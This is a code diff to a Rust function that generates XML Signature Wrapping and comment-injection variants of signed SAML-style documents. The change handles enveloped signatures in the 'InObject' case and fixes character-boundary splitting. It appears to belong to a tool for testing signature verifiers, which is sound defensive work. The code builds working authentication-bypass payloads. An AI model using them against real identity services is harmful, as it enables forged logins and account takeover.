@@ -124,15 +124,24 @@ pub fn apply(doc: &str, t: &Target, attack: Attack) -> Option<String> {
             format!("{}{outer}{}", &d[..root_close], &d[root_close..])
         }
         Attack::InObject => {
-            let d = replaced(&evil_copy(outer, t, false));
             let uri = format!("URI=\"#{}\"", t.id.expect("id"));
-            let r = d.find(&uri).expect("the reference to the target");
-            let sig_end = r + d[r..].find("</ds:Signature>").expect("signature end");
-            format!(
-                "{}<ds:Object>{outer}</ds:Object>{}",
-                &d[..sig_end],
-                &d[sig_end..]
-            )
+            let object = format!("<ds:Object>{outer}</ds:Object>");
+            if let Some(r) = outer.find(&uri) {
+                // The signature is enveloped in the target (SAML, the inspector's): the evil
+                // element carries a copy of it, with the original in its Object (XSW of
+                // Somorovsky et al.).
+                let sig_start = outer[..r].rfind("<ds:Signature").expect("signature start");
+                let sig_close = r + outer[r..].find("</ds:Signature>").expect("signature end");
+                let sig = format!("{}{object}</ds:Signature>", &outer[sig_start..sig_close]);
+                let evil = evil_copy(outer, t, false);
+                let close = evil.len() - t.close.len();
+                replaced(&format!("{}{sig}{}", &evil[..close], &evil[close..]))
+            } else {
+                let d = replaced(&evil_copy(outer, t, false));
+                let r = d.find(&uri).expect("the reference to the target");
+                let sig_end = r + d[r..].find("</ds:Signature>").expect("signature end");
+                format!("{}{object}{}", &d[..sig_end], &d[sig_end..])
+            }
         }
         Attack::WrappedInHeader => {
             let d = replaced(&evil_copy(outer, t, false));
@@ -161,7 +170,12 @@ pub fn apply(doc: &str, t: &Target, attack: Attack) -> Option<String> {
             // The signed characters stay as they are (so the digest, which never covers
             // comments, still matches); a reader that takes the first text node gets only the
             // part before the comment (the 2018 SAML comment-injection shape).
-            let half = t.text.len() / 2;
+            let half = t
+                .text
+                .char_indices()
+                .map(|(i, _)| i)
+                .nth(t.text.chars().count() / 2)
+                .expect("text of two characters or more");
             let plain = format!("{}<!---->{}", &t.text[..half], &t.text[half..]);
             replaced(&inner.replacen(t.text, &plain, 1))
         }
